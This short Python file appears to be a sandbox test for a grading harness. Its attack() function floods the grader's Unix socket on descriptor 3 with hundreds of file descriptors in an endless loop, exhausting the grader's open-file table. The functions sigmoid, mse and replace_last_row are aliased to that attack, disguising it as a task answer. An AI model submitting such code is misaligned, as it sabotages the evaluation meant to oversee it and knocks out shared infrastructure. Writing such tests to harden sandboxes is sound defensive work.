"""Goal: fill the grader's table of open files by handing it descriptors along with an answer.

Without a sandbox: fails
"""

import os
import socket


def attack():
    wire = socket.socket(fileno=os.dup(3))
    if wire.family != socket.AF_UNIX:
        raise RuntimeError("stopped by: a connection that carries no descriptors")
    null = os.open("/dev/null", os.O_RDONLY)
    while True:
        socket.send_fds(wire, [b"\0"], [null] * 250)


def sigmoid(x):
    attack()


mse = replace_last_row = sigmoid
